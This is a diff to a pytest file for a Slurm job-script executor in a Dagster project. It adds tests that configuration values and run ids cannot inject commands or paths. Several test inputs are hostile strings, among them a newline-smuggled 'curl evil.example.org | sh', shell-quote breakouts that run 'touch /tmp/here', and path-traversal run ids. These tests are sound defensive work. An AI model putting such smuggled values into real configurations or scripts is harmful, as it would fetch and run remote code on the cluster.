@@ -4,10 +4,11 @@ import os
 from dataclasses import replace
 from pathlib import Path
 from types import SimpleNamespace
-from typing import cast
+from typing import Any, cast
 
 import pytest
 from dagster._core.events import DagsterEvent, DagsterEventType
+from pydantic import ValidationError
 
 from resources.errors import ConfigurationError
 from resources.executors.slurm.accounts import read_sacct, read_scontrol
@@ -16,8 +17,8 @@ from resources.executors.slurm.job import Job, JobEnd, describe_waiting
 from resources.executors.slurm.script import Step, write_script
 from resources.executors.slurm.shared_files import file_system_of
 from resources.executors.slurm.site import configured_site, plan_step
-from resources.executors.step_resources import StepResources
-from resources.settings import Site
+from resources.executors.step_resources import StepResources, validation_message
+from resources.settings import JobOptions, JobRequest, Site
 
 SITE = Site.model_validate(
     {
@@ -33,6 +34,7 @@ SITE = Site.model_validate(
         "steps": {"marco_probabilities": {"minutes": 480}},
     }
 )
+RULES = {"cpu", "gpu", "steps", "backfill"}
 GOLDEN = Path(__file__).parent / "job_script.golden.sh"
 
 STEP = Step(
@@ -68,23 +70,68 @@ def test_keys_of_mapped_steps_make_names_that_stay_apart() -> None:
     ("settings", "named"),
     [
         ({"folder": "jobs"}, "folder: value error, must be an absolute path"),
-        ({"folder": "/s", "gpu": {"partitoin": "a"}}, "gpu.partitoin"),
-        ({"folder": "/s", "backfill": {"nice": -5}}, "backfill.nice"),
-        ({"folder": "/s", "poll_seconds": "often"}, "poll_seconds"),
-        ({"folder": "/s", "login": {"user": "c4"}}, "login.host"),
-        ({"folder": "/s", "options": ["--requeue"]}, "--requeue is set by C4"),
-        ({}, "No Slurm site is configured"),
+        ({"gpu": {"partitoin": "a"}}, "gpu.partitoin"),
+        ({"poll_seconds": "often"}, "poll_seconds"),
+        ({"login": {"user": "c4"}}, "login.host"),
+        ({"options": ["--requeue"]}, "--requeue is set by C4"),
+        ({"options": ["--clusters=second"]}, "--clusters would send jobs to a cluster that C4 does not ask"),
+        ({"options": ["--cluster=second"]}, "--clusters would send jobs"),
+        ({"gpu": {"options": ["--exclude=n7 --clusters=second"]}}, "--clusters would send jobs"),
+        ({"options": ["-Msecond"]}, "must be a long sbatch option"),
+        ({"options": ["--exclude=n7 -M second"]}, "must be long sbatch options like --exclude=n7, not '-M'"),
+        ({"options": ["--wait"]}, "--wait would make sbatch wait"),
+        ({"options": ["--exclude=n7\ncurl evil.example.org | sh"]}, "must be a long sbatch option"),
+        ({"partition": "gpu\ncurl evil.example.org | sh\n"}, "partition"),
     ],
 )
-def test_a_wrong_key_of_a_runs_configuration_is_named(settings: dict[str, object], named: str) -> None:
-    with pytest.raises(ConfigurationError) as error:
-        configured_site(None, settings)
-    assert named in str(error.value)
+def test_a_wrong_key_of_the_section_is_named(settings: dict[str, object], named: str) -> None:
+    with pytest.raises(ValidationError) as error:
+        Site.model_validate({"folder": "/s", **settings})
+    assert named in validation_message(error.value)
 
 
-def test_a_runs_configuration_replaces_single_keys_of_the_file() -> None:
-    site = configured_site(SITE, {"gpu": {"qos": "urgent"}, "poll_seconds": 9})
-    assert (site.gpu.qos, site.gpu.partition, site.poll_seconds) == ("urgent", "gpu", 9)
+def test_a_deployment_without_a_cluster_says_what_to_write() -> None:
+    for run in ({}, {"partition": "gpu"}):
+        with pytest.raises(ConfigurationError, match="No Slurm site is configured"):
+            configured_site(None, run)
+
+
+def test_a_runs_configuration_replaces_what_is_asked_for_and_leaves_the_rest_of_the_section() -> None:
+    changes = {"nice": 9, "gpu": {"qos": "urgent", "gpu_type": "a100", "minutes": 5}, "steps": {"slow": {"cpus": 3}}}
+    site = configured_site(SITE, {**changes, "backfill": {"gpu": {"constraint": "volta|ampere"}}})
+    assert (site.gpu.qos, site.gpu.partition, site.gpu.prologue) == ("urgent", "gpu", SITE.gpu.prologue)
+    assert (site.nice, site.steps["slow"].cpus, site.steps["marco_probabilities"].minutes) == (9, 3, 480)
+    assert site.backfill.gpu.constraint == "volta|ampere"
+    assert site.environment_file == SITE.environment_file
+
+
+@pytest.mark.parametrize(
+    "key", sorted({*Site.model_fields, *JobOptions.model_fields} - JobRequest.model_fields.keys() - RULES)
+)
+def test_a_runs_configuration_cannot_say_what_is_run_or_where(key: str) -> None:
+    """Whoever reaches Dagster's port may write the configuration of a run."""
+    values: dict[str, object] = {"prologue": ["touch /tmp/here"], "options": ["--chdir=/tmp"], "where": "here"}
+    value = values.get(key, "/tmp/program")
+    for above in ((), ("gpu",), ("steps", "marco_probabilities"), ("backfill",), ("backfill", "steps", "x")):
+        changes: dict[str, object] = {key: value}
+        for name in reversed(above):
+            changes = {name: changes}
+        with pytest.raises(ConfigurationError, match=rf"{key}.*A run may change partition, account") as refused:
+            configured_site(SITE, changes)
+        assert "c4.toml" in str(refused.value)
+
+
+@pytest.mark.parametrize("key", ["partition", "account", "qos", "gpu_type", "constraint"])
+@pytest.mark.parametrize("value", ["x\ntouch /tmp/here", "x\r", "a b", "'; touch /tmp/here; '", 'x"', "x\\", ""])
+def test_no_value_of_a_runs_configuration_becomes_a_line_of_its_job_scripts(key: str, value: str) -> None:
+    with pytest.raises(ConfigurationError, match=key):
+        configured_site(SITE, {key: value})
+
+
+@pytest.mark.parametrize("run_id", ["../../elsewhere", "a\ntouch /tmp/here", "", "a b", "/etc"])
+def test_a_run_id_that_somebody_made_up_is_no_part_of_a_path(run_id: str) -> None:
+    with pytest.raises(ConfigurationError, match="run id"):
+        replace(STEP, run_id=run_id)
 
 
 def test_a_sites_words_for_a_step_come_before_those_for_its_kind_and_the_defaults() -> None:
@@ -126,6 +173,58 @@ def test_the_rules_of_backfills_come_after_all_others_and_hold_for_them_alone() 
     assert "#SBATCH --nice=100\n" in script
     assert "exec nice -n 19 " in script
     assert "nice " not in write_script(replace(STEP, name="slow"), site).text
+
+
+def directives(site: Site, **resources: Any) -> set[str]:
+    """What sbatch is told for a step that asks for two GPUs."""
+    asked = StepResources.model_validate({"gpus": 2, "cpus": 8, "memory_gb": 16, **resources})
+    text = write_script(replace(STEP, resources=asked), site).text
+    return {line.removeprefix("#SBATCH --") for line in text.splitlines() if line.startswith("#SBATCH")}
+
+
+@pytest.mark.parametrize(
+    ("own", "without"),
+    [
+        ("--mem-per-cpu=500M", "mem="),
+        ("--mem-per-gpu=8G", "mem="),
+        ("--mem=0", "mem=16384M"),
+        ("--gpus=2", "gres="),
+        ("--gpus-per-node=a100:2", "gres="),
+        ("--gres=gpu:a100:2", "gres=gpu:2"),
+        ("--cpus-per-gpu=4", "cpus-per-task="),
+        ("--partition=own", "partition=gpu"),
+        ("--time=1-0", "time="),
+    ],
+)
+def test_a_sites_own_words_take_the_place_of_what_c4_would_say(own: str, without: str) -> None:
+    site = Site.model_validate({"folder": "/s", "gpu": {"partition": "gpu", "minutes": 9, "options": [own]}})
+    said = directives(site)
+    assert own.removeprefix("--") in said
+    assert not [each for each in said - {own.removeprefix("--")} if each.startswith(without)]
+    names = [each.split("=")[0] for each in said]
+    assert len(names) == len(set(names)), "sbatch would take the last one without a word."
+
+
+def test_other_generic_resources_of_a_site_stand_beside_the_gpus() -> None:
+    site = Site.model_validate({"folder": "/s", "options": ["--gres=tmpfs:10G", "--gres-flags=enforce-binding"]})
+    assert {"gres=gpu:2,tmpfs:10G", "gres-flags=enforce-binding"} <= directives(site)
+    assert "gres=tmpfs:10G" in directives(site, gpus=0)
+
+
+def test_steps_with_a_gpu_stay_what_they_are_where_the_site_asks_for_it_in_its_own_words() -> None:
+    rules = {"partition": "gpu", "gpus": 0, "options": ["--gpus=1"], "prologue": ["module load cuda"]}
+    site = Site.model_validate({"folder": "/s", "partition": "cpu", "gpu": rules})
+    resources, options = plan_step(site, "marco_probabilities", StepResources(gpus=1))
+    assert (resources.gpus, options.partition, options.prologue) == (0, "gpu", ("module load cuda",))
+    assert options.options == ("--gpus=1",)
+
+
+def test_a_step_that_the_site_gives_a_gpu_follows_the_rules_of_gpus_and_the_other_way_round() -> None:
+    rules = {"cpu": {"partition": "cpu"}, "gpu": {"partition": "gpu"}, "steps": {"a": {"gpus": 1}, "b": {"gpus": 0}}}
+    site = Site.model_validate({"folder": "/s", **rules})
+    for name, asked, expected in (("a", 0, (1, "gpu")), ("b", 1, (0, "cpu"))):
+        resources, options = plan_step(site, name, StepResources(gpus=asked))
+        assert (resources.gpus, options.partition) == expected
 
 
 def test_an_unreadable_resource_tag_names_the_step_and_the_key() -> None:
@@ -207,6 +306,28 @@ def test_only_the_newest_attempts_word_counts() -> None:
         (success, first, False),
         (success, second, True),
         (failure, first, False),
+    ]
+    stragglers = StragglerFilter()
+    assert [stragglers.keep(event(kind, pid)) for kind, pid, _ in story] == [kept for *_, kept in story]
+
+
+def test_an_attempt_on_another_machine_may_have_the_process_id_of_the_one_before() -> None:
+    starting, started = DagsterEventType.STEP_WORKER_STARTING, DagsterEventType.STEP_WORKER_STARTED
+    success, failure, retry = (
+        DagsterEventType.STEP_SUCCESS,
+        DagsterEventType.STEP_FAILURE,
+        DagsterEventType.STEP_UP_FOR_RETRY,
+    )
+    worker, same = 1, 7
+    story = [
+        (starting, worker, True),
+        (started, same, True),
+        (retry, worker, True),
+        (starting, worker, True),
+        (failure, same, False),  # of the first attempt: the second has not begun
+        (started, same, True),
+        (success, same, True),
+        (success, same, False),
     ]
     stragglers = StragglerFilter()
     assert [stragglers.keep(event(kind, pid)) for kind, pid, _ in story] == [kept for *_, kept in story]
